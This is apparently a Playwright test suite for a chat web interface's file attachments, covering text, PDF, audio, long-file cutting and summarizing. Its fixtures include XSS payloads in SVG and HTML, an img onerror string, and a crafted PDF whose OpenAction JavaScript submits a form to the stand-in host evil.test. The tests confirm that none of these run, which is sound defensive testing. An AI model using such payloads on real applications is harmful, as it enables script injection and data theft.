"""Files of a message: text, tables, PDF and audio, short and long, honest and hostile."""

from __future__ import annotations

import io
import re
import wave
from typing import Any

import httpx
import pypdf
import pytest
from playwright.sync_api import FilePayload, Page, expect

from tests.browser.chat_page import ChatPage
from tests.system.process import CorralProcess
from tests.tools.pdf import pdf_of

N_CTX = 1024
ROOM = int(N_CTX * 0.6)


@pytest.fixture(scope="module")
def blind(models):
    with CorralProcess("-m", models / "llama-bpe.gguf", "-c", 2 * N_CTX, "-np", 2, "--slots") as server:
        yield server


@pytest.fixture(scope="module")
def seeing(vision):
    model, projector = vision / "llama-bpe.gguf", vision / "mmproj-llava.gguf"
    with CorralProcess("-m", model, "--mmproj", projector, "-c", N_CTX) as server:
        yield server


@pytest.fixture(scope="module")
def hearing(vision):
    model, projector = vision / "llama-bpe.gguf", vision / "mmproj-ultravox.gguf"
    with CorralProcess("-m", model, "--mmproj", projector, "-c", N_CTX) as server:
        yield server


@pytest.fixture
def chat(page, blind) -> ChatPage:
    return open_chat(page, blind)


def open_chat(page: Page, server: CorralProcess) -> ChatPage:
    opened = ChatPage(page, server.url).open()
    opened.set("Max tokens", 4)
    opened.use_for_new_chats()
    return opened


def give(page: Page, *files: tuple[str, str, bytes]) -> None:
    payloads = [FilePayload(name=name, mimeType=kind, buffer=content) for name, kind, content in files]
    page.get_by_label("Files", exact=True).set_input_files(payloads)


def chips(page: Page):
    return page.get_by_role("list", name="Files of this message").get_by_role("listitem")


def refusal(page: Page):
    return page.locator(".composer").get_by_role("alert")


def requests_of(page: Page) -> list[dict[str, Any]]:
    bodies: list[dict[str, Any]] = []
    page.on("request", lambda r: bodies.append(r.post_data_json) if "chat/completions" in r.url else None)
    return bodies


def n_tokens(server: CorralProcess, text: str) -> int:
    return len(server.post("/tokenize", content=text).json()["tokens"])


TEXTS = [
    ("notes.md", "text/markdown", b"# Notes\n\n- one\n", "# Notes\n\n- one\n"),
    ("table.csv", "text/csv", b"a,b\r\n1,2\r\n", "a,b\n1,2\n"),
    ("main.rs", "", b"fn main() {}\n", "fn main() {}\n"),
    ("wide.txt", "text/plain", "größer".encode("utf-16"), "größer"),
    ("old.txt", "text/plain", "größer".encode("cp1252"), "größer"),
    ("drawing.svg", "image/svg+xml", b"<svg onload=hack()></svg>", "<svg onload=hack()></svg>"),
    ("page.html", "text/html", b"<script>hack()</script>", "<script>hack()</script>"),
]


def test_texts_are_shown_counted_and_sent_first(chat, page, blind):
    bodies = requests_of(page)
    give(page, *((name, kind, content) for name, kind, content, _ in TEXTS))
    expect(chips(page)).to_have_count(len(TEXTS))
    for chip, (name, _, _, text) in zip(chips(page).all(), TEXTS, strict=True):
        expect(chip).to_contain_text(name)
        expect(chip).to_contain_text(f"{n_tokens(blind, text)} token")
    chat.ask("What is this?")
    shown = "".join(f"--- File: {name} ---\n{text}\n\n" for name, _, _, text in TEXTS)
    assert bodies[0]["messages"][0]["content"] == shown + "What is this?"
    expect(chips(page)).to_have_count(0)
    page.reload()
    chat.wait_until_ready()
    sent = chat.messages.first.locator("details.sent-file")
    expect(sent).to_have_count(len(TEXTS))
    sent.last.locator("summary").click()
    assert sent.locator("pre").all_text_contents() == [text for _, _, _, text in TEXTS]


def test_files_wait_while_another_chat_is_shown(chat, page):
    chat.ask("Hello")
    page.get_by_role("button", name="New chat", exact=True).click()
    chat.ask("Good morning")
    give(page, ("notes.txt", "text/plain", b"some notes"))
    expect(chips(page)).to_have_count(1)
    page.get_by_role("link", name="Hello").click()
    expect(chips(page)).to_have_count(0)
    page.get_by_role("link", name="Good morning").click()
    expect(chips(page)).to_contain_text("notes.txt")


PASTE = """(box, text) => {
  const clipboardData = new DataTransfer();
  clipboardData.setData("text/plain", text);
  return box.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
}"""


def test_a_long_text_that_is_pasted_becomes_a_file(chat, page):
    assert chat.box.evaluate(PASTE, "word " * 500), "up to 2,500 characters are left to the browser"
    assert not chat.box.evaluate(PASTE, "word " * 501)
    expect(chips(page)).to_contain_text("pasted.txt")


def test_a_file_alone_is_a_message(chat, page):
    give(page, ("notes.txt", "text/plain", b"some notes"))
    expect(chips(page)).to_contain_text("token")
    chat.box.press("Enter")
    chat.wait_for_end()
    expect(page.locator(".entry a").first).to_have_text("notes.txt")


REFUSED = [
    ("some.bin", "", b"\x7fELF\0\1", "is not text, an image, a PDF or audio"),
    ("none.txt", "text/plain", b"", "is empty"),
    ("red.png", "image/png", b"x", "does not see"),
    ("noise.mp3", "audio/mpeg", b"x", "does not hear"),
    ("broken.pdf", "application/pdf", b"%PDF-1.7 nothing", "cannot be read as a PDF"),
]


def test_what_cannot_be_used_is_told_why(chat, page):
    for name, kind, content, says in REFUSED:
        give(page, (name, kind, content))
        expect(refusal(page)).to_contain_text(f"{name} ")
        expect(refusal(page)).to_contain_text(says)
    expect(chips(page)).to_have_count(0)


def test_the_text_of_a_pdf(chat, page):
    bodies = requests_of(page)
    give(page, ("paper.pdf", "application/pdf", pdf_of("The quick brown fox")))
    expect(chips(page)).to_contain_text("1 page")
    expect(page.get_by_role("button", name="Send pages as images")).to_have_count(0)
    chat.ask("What is this?")
    assert "The quick brown fox" in bodies[0]["messages"][0]["content"]


def hostile_pdfs() -> dict[str, bytes]:
    action = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.test/'\\))>>"
    scripted = pdf_of("scripted").replace(b"/Catalog", b"/Catalog" + action)
    huge = pdf_of("huge").replace(b"[0 0 300 200]", b"[0 0 9e9 9e9]")
    cycle = pdf_of("cycle").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    counted = pdf_of("many").replace(b"/Count 1>>", b"/Count 9>>")
    made = {
        "scripted": scripted,
        "markup": pdf_of("<img src=x onerror=hack\\(\\)>"),
        "huge": huge,
        "cycle": cycle,
    }
    return {**made, "count": counted, "cut": pdf_of("cut")[:-60]}


def written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_hostile_pdfs_do_nothing(page, blind):
    page.add_init_script("window.hack = () => { window.isHacked = true; }")
    chat = open_chat(page, blind)
    for name, content in hostile_pdfs().items():
        give(page, (f"{name}.pdf", "application/pdf", content))
        expect(chips(page).or_(refusal(page)).filter(has_text=f"{name}.pdf")).to_have_count(1)
    chat.box.press("Enter")
    chat.wait_for_end()
    expect(chat.messages.first.locator("summary").first).to_be_visible()
    for sent in chat.messages.first.locator("summary").all():
        sent.click()
    assert page.evaluate("window.isHacked") is None
    assert page.locator("img[src=x]").count() == 0


def test_a_pdf_with_a_password(chat, page):
    writer = pypdf.PdfWriter(io.BytesIO(pdf_of("secret")))
    writer.encrypt("secret", algorithm="RC4-128")
    give(page, ("locked.pdf", "application/pdf", written(writer)))
    expect(refusal(page)).to_contain_text("password")


def test_pages_as_images_for_a_model_that_sees(page, seeing):
    chat, bodies = open_chat(page, seeing), requests_of(page)
    give(page, ("scanned.pdf", "application/pdf", pdf_of("")))
    expect(page.locator(".composer img")).to_have_count(1)
    give(page, ("paper.pdf", "application/pdf", pdf_of("some text")))
    page.get_by_role("button", name="Send pages as images").click()
    expect(page.locator(".composer img")).to_have_count(2)
    expect(chips(page)).to_have_count(0)
    chat.ask("What is this?")
    (part, _, _) = bodies[0]["messages"][0]["content"]
    assert part["image_url"]["url"].startswith("data:image/jpeg;base64,")


def test_a_long_file_is_cut(chat, page, blind):
    text = "".join(f"line {i} of a long text\n" for i in range(400))
    give(page, ("long.txt", "text/plain", text.encode()))
    bodies = requests_of(page)
    page.get_by_role("button", name="Cut to fit").click()
    expect(chips(page)).to_contain_text("cut")
    expect(page.get_by_role("button", name="Cut to fit")).to_have_count(0)
    chat.ask("What is this?")
    sent = bodies[0]["messages"][0]["content"].removeprefix("--- File: long.txt ---\n")
    kept = sent.removesuffix("\n\nWhat is this?")
    assert text.startswith(kept)
    assert ROOM * 0.8 < n_tokens(blind, kept) <= ROOM


def test_a_long_file_is_summarized_in_parts(chat, page, blind):
    text = "".join(f"line {i} of a long text\n" for i in range(200))
    bodies = requests_of(page)
    give(page, ("long.txt", "text/plain", text.encode()))
    page.get_by_role("button", name="Summarize in parts").click()
    expect(chips(page)).to_contain_text("summarized")
    parts = [body["messages"][0]["content"] for body in bodies]
    assert len(parts) == -(-n_tokens(blind, text) // (N_CTX // 2))
    found = [re.search(r"part \d+ ---\n(.*?)\n\nSummarize part", part, re.DOTALL) for part in parts]
    assert "".join(match[1] for match in found) == text
    chat.ask("What is this?")
    assert "Summary of long.txt, in " in bodies[-1]["messages"][0]["content"]


def test_the_same_file_in_another_chat_is_not_evaluated_again(chat, page, blind):
    file = ("same.txt", "text/plain", "".join(f"fact {i}. " for i in range(120)).encode())
    n, cached = n_tokens(blind, file[2].decode()), []
    for question in ("What is this?", "Who wrote it?"):
        give(page, file)
        expect(chips(page)).to_contain_text(f"{n} tokens")
        chat.ask(question)
        cached.append(chat.cached()[0])
        page.get_by_role("button", name="New chat", exact=True).first.click()
        expect(chat.messages).to_have_count(0)
    assert cached[0] < n / 2
    assert cached[1] >= n


def sound() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setparams((1, 2, 16_000, 0, "NONE", ""))
        file.writeframes(bytes(16_000))
    return out.getvalue()


def test_audio_for_a_model_that_hears(page, hearing):
    chat, bodies = open_chat(page, hearing), requests_of(page)
    give(page, ("noise.wav", "audio/wav", sound()))
    expect(chips(page)).to_contain_text("noise.wav")
    chat.ask("What is said?")
    (part, _) = bodies[0]["messages"][0]["content"]
    assert part["input_audio"]["format"] == "wav"
    expect(chat.messages.first.locator("audio")).to_have_count(1)


def test_a_recording(new_context, hearing):
    context = new_context(permissions=["microphone"])
    page = context.new_page()
    chat, bodies = open_chat(page, hearing), requests_of(page)
    page.get_by_role("button", name="Record audio").click()
    page.get_by_role("button", name="Stop recording").click()
    expect(chips(page)).to_contain_text("Recording")
    chat.ask("What is said?")
    (part, _) = bodies[0]["messages"][0]["content"]
    assert part["input_audio"]["format"] == "wav"
    assert httpx.get(hearing.url + "/health").status_code == 200


def test_no_microphone(new_page, hearing):
    page = new_page()
    open_chat(page, hearing)
    page.evaluate("() => { navigator.mediaDevices.getUserMedia = () => Promise.reject(new Error('no')); }")
    page.get_by_role("button", name="Record audio").click()
    expect(refusal(page)).to_contain_text("microphone")
